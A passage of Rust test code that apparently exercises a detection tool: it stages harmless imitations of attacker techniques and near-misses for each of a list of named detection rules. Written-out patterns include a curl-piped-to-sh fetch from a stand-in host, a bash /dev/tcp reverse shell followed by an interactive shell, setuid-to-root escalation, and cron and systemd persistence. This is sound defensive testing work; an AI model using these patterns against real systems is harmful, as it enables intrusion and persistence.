    let script = format!("{} & wait", c.p("vmx"));
    run(c.cmd(parent).args(["-c", &script]))?.ok()?;
    Ok(())
}

fn sshd_then_strace(c: &Ctx) -> Res<u32> {
    let strace = tool("strace")?;
    let sshd = c.copy_tool("true", "sshd")?;
    run(&mut c.cmd(sshd))?.ok()?;
    Ok(run(c.cmd(strace).args(["-o", "/dev/null", "true"]))?
        .ok()?
        .pid)
}

fn sshd_then_strace_miss(c: &Ctx) -> Res<()> {
    let other = c.copy_tool("true", "sshd-session")?;
    run(&mut c.cmd(other))?.ok()?;
    run(c.cmd(tool("strace")?).args(["-o", "/dev/null", "true"]))?.ok()?;
    Ok(())
}

fn curl_pipe_sh(c: &Ctx) -> Res<u32> {
    let curl = c.copy_tool("true", "curl")?;
    let script = format!(
        "{} http://audetect.example/payload.sh | sh & echo pid $!; wait",
        curl.display()
    );
    run(c.cmd(tool("bash")?).args(["-c", &script]))?
        .ok()?
        .printed("pid")
}

fn curl_pipe_sh_miss(c: &Ctx) -> Res<()> {
    let script = format!("{} http://127.0.0.1/payload.sh | sh & wait", c.p("curl"));
    run(c.cmd(tool("bash")?).args(["-c", &script]))?.ok()?;
    Ok(())
}

// ---- uid_change, gid_change ------------------------------------------------

fn cap_setuid(c: &Ctx) -> Res<u32> {
    let code = r#"import os;os.setuid(0);os.system("true")"#;
    Ok(
        run(half_dropped(c)?.arg(tool("python3")?).args(["-c", code]))?
            .ok()?
            .pid,
    )
}

fn cap_setuid_miss(c: &Ctx) -> Res<()> {
    // root all along: no change of user to catch.
    let code = r#"import os;os.setuid(0);os.system("true")"#;
    run(c.cmd(tool("python3")?).args(["-c", code]))?.ok()?;
    Ok(())
}

fn cap_setgid(c: &Ctx) -> Res<u32> {
    let code = r#"import os;os.setgid(0);os.system("true")"#;
    Ok(
        run(half_dropped(c)?.arg(tool("python3")?).args(["-c", code]))?
            .ok()?
            .pid,
    )
}

fn cap_setgid_miss(c: &Ctx) -> Res<()> {
    let code = r#"import os;os.setgid(65534);os.system("true")"#;
    run(half_dropped(c)?.arg(tool("python3")?).args(["-c", code]))?.ok()?;
    Ok(())
}

/// Runs its arguments as a command and waits: a parent for the next cases.
const SPAWN: &str = "import subprocess, sys; subprocess.run(sys.argv[1:], check=True)";

const SETUID_ROOT: &str = "import os; print('pid', os.getpid(), flush=True); os.setuid(0)";
const SETUID_NOBODY: &str = "import os; print('pid', os.getpid(), flush=True); os.setuid(65534)";

fn uid_change_child(c: &Ctx) -> Res<u32> {
    let python = c.copy_tool("python3", "python3")?;
    let mut cmd = half_dropped(c)?;
    cmd.arg(tool("python3")?).args(["-c", SPAWN]).arg(python);
    run(cmd.args(["-c", SETUID_ROOT]))?.ok()?.printed("pid")
}

fn uid_change_child_miss(c: &Ctx) -> Res<()> {
    let mut cmd = half_dropped(c)?;
    cmd.arg(tool("python3")?)
        .args(["-c", SPAWN])
        .arg(c.path("python3"));
    run(cmd.args(["-c", SETUID_NOBODY]))?.ok()?;
    Ok(())
}

/// Runs `argv[1] -c pass`, then `argv[2] -c argv[3]`: two children of one parent.
const SIBLINGS: &str = "import subprocess, sys\n\
    subprocess.run([sys.argv[1], '-c', 'pass'], check=True)\n\
    subprocess.run([sys.argv[2], '-c', sys.argv[3]], check=True)\n";

fn uid_change_sibling(c: &Ctx) -> Res<u32> {
    let from_tmp = c.copy_tool("python3", "python3")?;
    let mut cmd = half_dropped(c)?;
    cmd.arg(tool("python3")?)
        .args(["-c", SIBLINGS])
        .arg(from_tmp);
    run(cmd.arg(tool("python3")?).arg(SETUID_ROOT))?
        .ok()?
        .printed("pid")
}

fn uid_change_sibling_miss(c: &Ctx) -> Res<()> {
    // The first child runs from /usr/bin, not from /tmp.
    let mut cmd = half_dropped(c)?;
    cmd.arg(tool("python3")?)
        .args(["-c", SIBLINGS])
        .arg(tool("python3")?);
    run(cmd.arg(tool("python3")?).arg(SETUID_ROOT))?.ok()?;
    Ok(())
}

fn fork_then_setuid(uid: u32) -> String {
    format!(
        "import os\n\
         pid = os.fork()\n\
         if pid == 0:\n    os.setuid({uid})\n    os._exit(0)\n\
         print('pid', pid, flush=True)\n\
         os.waitpid(pid, 0)\n"
    )
}

fn uid_change_grandchild(c: &Ctx) -> Res<u32> {
    let python = c.copy_tool("python3", "python3")?;
    let mut cmd = half_dropped(c)?;
    cmd.arg(tool("python3")?).args(["-c", SPAWN]).arg(python);
    run(cmd.arg("-c").arg(fork_then_setuid(0)))?
        .ok()?
        .printed("pid")
}

fn uid_change_grandchild_miss(c: &Ctx) -> Res<()> {
    let mut cmd = half_dropped(c)?;
    cmd.arg(tool("python3")?)
        .args(["-c", SPAWN])
        .arg(c.path("python3"));
    run(cmd.arg("-c").arg(fork_then_setuid(65534)))?.ok()?;
    Ok(())
}

// ---- session_id_change -----------------------------------------------------

fn kworker_setsid(c: &Ctx) -> Res<u32> {
    let exe = c.copy_tool("setsid", "kworkerd")?;
    Ok(run(c.cmd(exe).arg("true"))?.ok()?.pid)
}

fn kworker_setsid_miss(c: &Ctx) -> Res<()> {
    run(as_nobody(c)?.arg(c.path("kworkerd")).arg("true"))?.ok()?;
    Ok(())
}

const PAM_EXEC: &str = r#"my $p = fork;
if ($p == 0) { POSIX::setsid(); exec "/bin/sh", $ARGV[0]; exit 127 }
print "pid $p\n";
waitpid($p, 0);
exit($? >> 8);
"#;

fn pam_exec(c: &Ctx) -> Res<u32> {
    let sshd = c.copy_tool("perl", "sshd")?;
    let hook = c.write("hook.sh", "exit 0\n")?;
    run(c.cmd(sshd).args(["-MPOSIX", "-e", PAM_EXEC]).arg(hook))?
        .ok()?
        .printed("pid")
}

fn pam_exec_miss(c: &Ctx) -> Res<()> {
    let other = c.copy_tool("perl", "sshx")?;
    run(c
        .cmd(other)
        .args(["-MPOSIX", "-e", PAM_EXEC])
        .arg(c.path("hook.sh")))?
    .ok()?;
    Ok(())
}

// ---- connection_attempted --------------------------------------------------

fn perl_connect(c: &Ctx, port: u16) -> Res<Ran> {
    let code = format!(
        "use IO::Socket::INET; IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => {port}, Timeout => 2); print \"pid $$\\n\""
    );
    run(c.cmd(tool("perl")?).args(["-e", &code]))?.ok()
}

fn kubelet_connect(c: &Ctx) -> Res<u32> {
    Ok(perl_connect(c, 10250)?.pid)
}

fn kubelet_connect_miss(c: &Ctx) -> Res<()> {
    perl_connect(c, 10251)?;
    Ok(())
}

/// bash connects to `dest`; refused or not, the shell goes on.
fn connect_then(dest: &str, then: &str) -> String {
    format!("true 3<>/dev/tcp/{dest} 2>/dev/null; {then}")
}

fn revshell_child(c: &Ctx) -> Res<u32> {
    let script = connect_then("10.1.2.3/4444", "exec sh -i -c true");
    Ok(
        run(in_own_netns(c, "10.1.2.3", &tool("bash")?)?.args(["-c", &script]))?
            .ok()?
            .pid,
    )
}

fn revshell_child_miss(c: &Ctx) -> Res<()> {
    let script = connect_then(&format!("127.0.0.1/{}", c.port), "exec sh -i -c true");
    run(c.cmd(tool("bash")?).args(["-c", &script]))?.ok()?;
    Ok(())
}

fn revshell_grandchild(c: &Ctx) -> Res<u32> {
    let script = connect_then("10.1.2.3/4444", "sh -i -c 'echo pid $$'; true");
    run(in_own_netns(c, "10.1.2.3", &tool("bash")?)?.args(["-c", &script]))?
        .ok()?
        .printed("pid")
}

fn revshell_grandchild_miss(c: &Ctx) -> Res<()> {
    let dest = format!("127.0.0.1/{}", c.port);
    let script = connect_then(&dest, "sh -i -c 'echo pid $$'; true");
    run(c.cmd(tool("bash")?).args(["-c", &script]))?.ok()?;
    Ok(())
}

fn netcon_then_file(c: &Ctx) -> Res<u32> {
    let bash = c.copy_tool("bash", "bash")?;
    let script = connect_then("1.2.3.4/443", "echo staged > payload.bin");
    Ok(
        run(in_own_netns(c, "1.2.3.4", &bash)?.args(["-c", &script]))?
            .ok()?
            .pid,
    )
}

fn netcon_then_file_miss(c: &Ctx) -> Res<()> {
    let script = connect_then("10.1.2.3/443", "echo staged > payload2.bin");
    run(in_own_netns(c, "10.1.2.3", &c.path("bash"))?.args(["-c", &script]))?.ok()?;
    Ok(())
}

// ---- connection_accepted ---------------------------------------------------

/// `python3 -m http.server ARGS` on a loopback port; one GET; stopped.
fn http_server(c: &Ctx, args: &[&str]) -> Res<u32> {
    let mut server = c
        .cmd(tool("python3")?)
        .args(["-u", "-m", "http.server"])
        .args(args)
        .args(["--bind", "127.0.0.1", "0"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .map_err(|e| format!("cannot start http.server: {e}"))?;
    let pid = server.id();
    let served = serve_one(&mut server);
    let _ = server.kill();
    let _ = server.wait();
    served.map(|()| pid)
}

fn serve_one(server: &mut Child) -> Res<()> {
    let out = server.stdout.take().ok_or("no stdout".to_owned())?;
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut line = String::new();
        let _ = BufReader::new(out).read_line(&mut line);
        let _ = tx.send(line);
    });
    let line = rx
        .recv_timeout(Duration::from_secs(10))
        .map_err(|_| "http.server printed nothing within 10 s".to_owned())?;
    // "Serving HTTP on 127.0.0.1 port 40123 (http://127.0.0.1:40123/) ..."
    let port: u16 = line
        .split_whitespace()
        .skip_while(|w| *w != "port")
        .nth(1)
        .and_then(|p| p.parse().ok())
        .ok_or_else(|| format!("no port in http.server's {line:?}"))?;
    let mut conn = TcpStream::connect(("127.0.0.1", port)).map_err(|e| format!("connect: {e}"))?;
    conn.set_read_timeout(Some(Duration::from_secs(10)))
        .map_err(|e| e.to_string())?;
    conn.write_all(b"GET / HTTP/1.0\r\n\r\n")
        .map_err(|e| format!("send: {e}"))?;
    let mut reply = String::new();
    let _ = conn.read_to_string(&mut reply);
    if !reply.starts_with("HTTP/1.0 200") {
        return fail(format!("http.server answered {reply:?}"));
    }
    Ok(())
}

fn cgi_server_accept(c: &Ctx) -> Res<u32> {
    http_server(c, &["--cgi"])
}

fn cgi_server_accept_miss(c: &Ctx) -> Res<()> {
    http_server(c, &[])?;
    Ok(())
}

/// Listens on ADDR:11434, connects to itself from ADDR, accepts.
const OLLAMA: &str = "import os, select, socket, sys\n\
    addr = sys.argv[1]\n\
    s = socket.socket()\n\
    s.bind((addr, 11434))\n\
    s.listen()\n\
    c = socket.create_connection((addr, 11434), source_address=(addr, 0))\n\
    a, peer = s.accept()\n\
    print('pid', os.getpid(), flush=True)\n\
    select.select([a], [], [], 1)\n";

/// The fake ollama in a network namespace of its own, where `addr` is on lo.
/// Like a real server it waits for the request (a second) before it closes:
/// audetect reads the accepted socket's own address from the live process.
fn ollama(c: &Ctx, addr: &str) -> Res<Ran> {
    let script = c.write("ollama.py", OLLAMA)?;
    let ollama = c.path("ollama");
    if !ollama.exists() {
        c.copy_tool("python3", "ollama")?;
    }
    run(in_own_netns(c, addr, &ollama)?.arg(script).arg(addr))?.ok()
}

fn ollama_external(c: &Ctx) -> Res<u32> {
    ollama(c, "1.2.3.4")?.printed("pid")
}

fn ollama_external_miss(c: &Ctx) -> Res<()> {
    ollama(c, "192.168.77.1")?;
    Ok(())
}

// ---- creation ----------------------------------------------------------------

fn hidden_so(c: &Ctx) -> Res<u32> {
    Ok(run(c.cmd(tool("touch")?).arg(c.path(".libstaged.so")))?
        .ok()?
        .pid)
}

fn hidden_so_miss(c: &Ctx) -> Res<()> {
    run(c.cmd(tool("touch")?).arg(c.path("libstaged.so")))?.ok()?;
    Ok(())
}

fn git_hook(c: &Ctx) -> Res<u32> {
    std::fs::create_dir_all(c.path("repo/.git/hooks")).map_err(|e| e.to_string())?;
    let args = [tool("true")?, c.path("repo/.git/hooks/pre-commit")];
    Ok(run(c.cmd(tool("cp")?).args(args))?.ok()?.pid)
}

fn git_hook_miss(c: &Ctx) -> Res<()> {
    let args = [tool("true")?, c.path("repo/.git/hooks/pre-commit.sample")];
    run(c.cmd(tool("cp")?).args(args))?.ok()?;
    Ok(())
}

fn cron_job(c: &Ctx) -> Res<u32> {
    let script = "echo '# staged' > /etc/cron.d/audetect-staged && echo pid $$";
    run(&mut c.in_private_mount("/etc/cron.d", script)?)?
        .ok()?
        .printed("pid")
}

fn cron_job_miss(c: &Ctx) -> Res<()> {
    std::fs::create_dir_all(c.path("etc/cron.d")).map_err(|e| e.to_string())?;
    let script = "echo '# staged' > etc/cron.d/audetect-staged";
    run(c.cmd(tool("sh")?).args(["-c", script]))?.ok()?;
    Ok(())
}

fn systemd_timer(c: &Ctx) -> Res<u32> {
    let script = ": > /etc/systemd/system/audetect-staged.timer && echo pid $$";
    run(&mut c.in_private_mount("/etc/systemd/system", script)?)?
        .ok()?
        .printed("pid")
}

fn systemd_timer_miss(c: &Ctx) -> Res<()> {
    // The same file, written by python, which the rule lets through.
    let python = tool("python3")?;
    let script = format!(
        "exec {} -c 'open(\"/etc/systemd/system/audetect-staged.timer\", \"w\").close()'",
        python.display()
    );
    run(&mut c.in_private_mount("/etc/systemd/system", &script)?)?.ok()?;
    Ok(())
}

fn ssh_backdoor_log(c: &Ctx) -> Res<u32> {
    let sshd = c.copy_tool("touch", "sshd")?;
    Ok(run(c.cmd(sshd).arg(c.path(".keylog")))?.ok()?.pid)
}

fn ssh_backdoor_log_miss(c: &Ctx) -> Res<()> {
    run(c.cmd(tool("touch")?).arg(c.path(".keylog2")))?.ok()?;
    Ok(())
}

// ---- deletion ----------------------------------------------------------------

fn authorized_keys_rm(c: &Ctx) -> Res<u32> {
    let keys = c.write(".ssh/authorized_keys", "# staged\n")?;
    Ok(run(c.cmd(tool("rm")?).arg(keys))?.ok()?.pid)
}

fn authorized_keys_rm_miss(c: &Ctx) -> Res<()> {
    let keys = c.write("backup/authorized_keys", "# staged\n")?;
    run(c.cmd(tool("rm")?).arg(keys))?.ok()?;
    Ok(())
}

fn ssl_cert_rm(c: &Ctx) -> Res<u32> {
    let script = "echo staged > /etc/ssl/certs/audetect-staged.pem && \
                  exec rm /etc/ssl/certs/audetect-staged.pem";
    Ok(run(&mut c.in_private_mount("/etc/ssl/certs", script)?)?
        .ok()?
        .pid)
}

fn ssl_cert_rm_miss(c: &Ctx) -> Res<()> {
    let pem = c.write("audetect-staged.pem", "staged\n")?;
    run(c.cmd(tool("rm")?).arg(pem))?.ok()?;
    Ok(())
}

fn self_delete(c: &Ctx) -> Res<u32> {
    let exe = c.copy_tool("perl", "dropper")?;
    Ok(
        run(c.cmd(exe).args(["-e", "unlink $^X or die \"unlink: $!\""]))?
            .ok()?
            .pid,
    )
}

fn self_delete_miss(c: &Ctx) -> Res<()> {
    let exe = c.copy_tool("perl", "dropper2")?;
    let other = c.write("other", "staged\n")?;
    let code = format!("unlink '{}' or die \"unlink: $!\"", other.display());
    run(c.cmd(exe).args(["-e", &code]))?.ok()?;
    Ok(())
}

// ---- rename ------------------------------------------------------------------

fn esxi_rename(c: &Ctx) -> Res<u32> {
    let disk = c.write("disk.vmdk", "staged\n")?;
    Ok(
        run(c.cmd(tool("mv")?).arg(disk).arg(c.path("disk.vmdk.locked")))?
            .ok()?
            .pid,
    )
}

fn esxi_rename_miss(c: &Ctx) -> Res<()> {
    let disk = c.write("other.vmdk", "staged\n")?;
    run(c.cmd(tool("mv")?).arg(disk).arg(c.path("other-copy.vmdk")))?.ok()?;
    Ok(())
}

fn system_binary_mv(c: &Ctx) -> Res<u32> {
    let mv = tool("mv")?;
    let script = format!(
        ": > /usr/local/bin/audetect-staged && \
         exec {} /usr/local/bin/audetect-staged /usr/local/bin/audetect-moved",
        mv.display()
    );
    Ok(run(&mut c.in_private_mount("/usr/local/bin", &script)?)?
        .ok()?
        .pid)
}

fn system_binary_mv_miss(c: &Ctx) -> Res<()> {
    let from = c.write("audetect-staged", "")?;
    run(c.cmd(tool("mv")?).arg(from).arg(c.path("audetect-moved")))?.ok()?;
    Ok(())
}

/// The sample. the README has one row per entry, with the commands.
const CASES: &[Case] = &[
    Case {
        rule: "Potential Reverse Shell Activity via Terminal",
        kind: "exec",
        stage: revshell_terminal,
        near_miss: revshell_terminal_miss,
    },
    Case {
        rule: "Potential Reverse Shell via Background Process",
        kind: "exec",
        stage: revshell_background,
        near_miss: revshell_background_miss,
    },
    Case {
        rule: "Interactive Terminal Spawned via Python",
        kind: "exec",
        stage: python_tty,
        near_miss: python_tty_miss,
    },
    Case {
        rule: "Binary Executed from Shared Memory Directory",
        kind: "exec",
        stage: shm_binary,
        near_miss: shm_binary_miss,
    },
    Case {
        rule: "Processes with Trailing Spaces",
        kind: "exec",
        stage: trailing_space,
        near_miss: trailing_space_miss,
    },
    Case {
        rule: "SUID/SGUID Enumeration Detected",
        kind: "exec",
        stage: suid_find,
        near_miss: suid_find_miss,
    },
    Case {
        rule: "OpenSSL Password Hash Generation",
        kind: "exec",
        stage: openssl_passwd,
        near_miss: openssl_passwd_miss,
    },
    Case {
        rule: "SUID/SGID Bit Set",
        kind: "exec",
        stage: chmod_suid,
        near_miss: chmod_suid_miss,
    },
    Case {
        rule: "Timestomping using Touch Command",
        kind: "exec",
        stage: touch_timestomp,
        near_miss: touch_timestomp_miss,
    },
    Case {
        rule: "File made Immutable by Chattr",
        kind: "exec",
        stage: chattr_immutable,
        near_miss: chattr_immutable_miss,
    },
    Case {
        rule: "Executable Masquerading as Kernel Process",
        kind: "exec",
        stage: kthread_name,
        near_miss: kthread_name_miss,
    },
    Case {
        rule: "Suspicious Child Execution via Web Server",
        kind: "exec",
        stage: web_server_child,
        near_miss: web_server_child_miss,
    },
    Case {
        rule: "Potential Shell via Wildcard Injection Detected",
        kind: "exec",
        stage: tar_checkpoint,
        near_miss: tar_checkpoint_miss,
    },
    Case {
        rule: "Masquerading Space After Filename",
        kind: "fork",
        stage: space_after_name_fork,
        near_miss: space_after_name_fork_miss,
    },
    Case {
        rule: "Suspicious File Downloaded from Google Drive",
        kind: "fork",
        stage: google_drive_fork,
        near_miss: google_drive_fork_miss,
    },
    Case {
        rule: "Suspicious Termination of ESXI Process",
        kind: "end",
        stage: esxi_kill,
        near_miss: esxi_kill_miss,
    },
    Case {
        rule: "Potential SSH Password Grabbing via strace",
        kind: "end",
        stage: sshd_then_strace,
        near_miss: sshd_then_strace_miss,
    },
    Case {
        rule: "File Downloaded by Curl/Wget and Piped to Interpreter",
        kind: "end",
        stage: curl_pipe_sh,
        near_miss: curl_pipe_sh_miss,
    },
    Case {
        rule: "Potential Privilege Escalation via Python cap_setuid",
        kind: "uid_change",
        stage: cap_setuid,
        near_miss: cap_setuid_miss,
    },
    Case {
        rule: "Potential Privilege Escalation via Python cap_setuid",
        kind: "gid_change",
        stage: cap_setgid,
        near_miss: cap_setgid_miss,
    },
    Case {
        rule: "Potential Privilege Escalation via a Suspicious UID Change",
        kind: "uid_change",
        stage: uid_change_child,
        near_miss: uid_change_child_miss,
    },
    Case {
        rule: "Potential Privilege Escalation via a Parent Process Sequence",
        kind: "uid_change",
        stage: uid_change_sibling,
        near_miss: uid_change_sibling_miss,
    },
    Case {
        rule: "Potential Privilege Escalation via a Parent/Child Process Sequence",
        kind: "uid_change",
        stage: uid_change_grandchild,
        near_miss: uid_change_grandchild_miss,
    },
    Case {
        rule: "Suspicious Kworker UID Elevation",
        kind: "session_id_change",
        stage: kworker_setsid,
        near_miss: kworker_setsid_miss,
    },
    Case {
        rule: "Potential Backdoor Execution Through PAM_EXEC",
        kind: "session_id_change",
        stage: pam_exec,
        near_miss: pam_exec_miss,
    },
    Case {
        rule: "Kubelet API Connection Attempt to Internal IP",
        kind: "connection_attempted",
        stage: kubelet_connect,
        near_miss: kubelet_connect_miss,
    },
    Case {
        rule: "Potential Reverse Shell via Child",
        kind: "connection_attempted",
        stage: revshell_child,
        near_miss: revshell_child_miss,
    },
    Case {
        rule: "Potential Reverse Shell",
        kind: "connection_attempted",
        stage: revshell_grandchild,
        near_miss: revshell_grandchild_miss,
    },
    Case {
        rule: "Network Connection Followed by File Creation",
        kind: "connection_attempted",
        stage: netcon_then_file,
        near_miss: netcon_then_file_miss,
    },
    Case {
        rule: "Simple HTTP Web Server Connection",
        kind: "connection_accepted",
        stage: cgi_server_accept,
        near_miss: cgi_server_accept_miss,
    },
    Case {
        rule: "Ollama API Accessed from External Network",
        kind: "connection_accepted",
        stage: ollama_external,
        near_miss: ollama_external_miss,
    },
    Case {
        rule: "Creation of Hidden Shared Object File",
        kind: "creation",
        stage: hidden_so,
        near_miss: hidden_so_miss,
    },
    Case {
        rule: "Git Hook Created or Modified",
        kind: "creation",
        stage: git_hook,
        near_miss: git_hook_miss,
    },
    Case {
        rule: "Cron Job Created or Modified",
        kind: "creation",
        stage: cron_job,
        near_miss: cron_job_miss,
    },
    Case {
        rule: "Systemd Timer Created",
        kind: "creation",
        stage: systemd_timer,
        near_miss: systemd_timer_miss,
    },
    Case {
        rule: "Potential OpenSSH Backdoor Logging Activity",
        kind: "creation",
        stage: ssh_backdoor_log,
        near_miss: ssh_backdoor_log_miss,
    },
    Case {
        rule: "SSH Authorized Keys File Deletion",
        kind: "deletion",
        stage: authorized_keys_rm,
        near_miss: authorized_keys_rm_miss,
    },
    Case {
        rule: "SSL Certificate Deletion",
        kind: "deletion",
        stage: ssl_cert_rm,
        near_miss: ssl_cert_rm_miss,
    },
    Case {
        rule: "Process Execution Followed by Self-Deletion",
        kind: "deletion",
        stage: self_delete,
        near_miss: self_delete_miss,
    },
    Case {
        rule: "Suspicious Renaming of ESXI Files",
        kind: "rename",
        stage: esxi_rename,
        near_miss: esxi_rename_miss,
    },
    Case {
        rule: "System Binary Moved or Copied",
        kind: "rename",
        stage: system_binary_mv,
        near_miss: system_binary_mv_miss,
    },
];
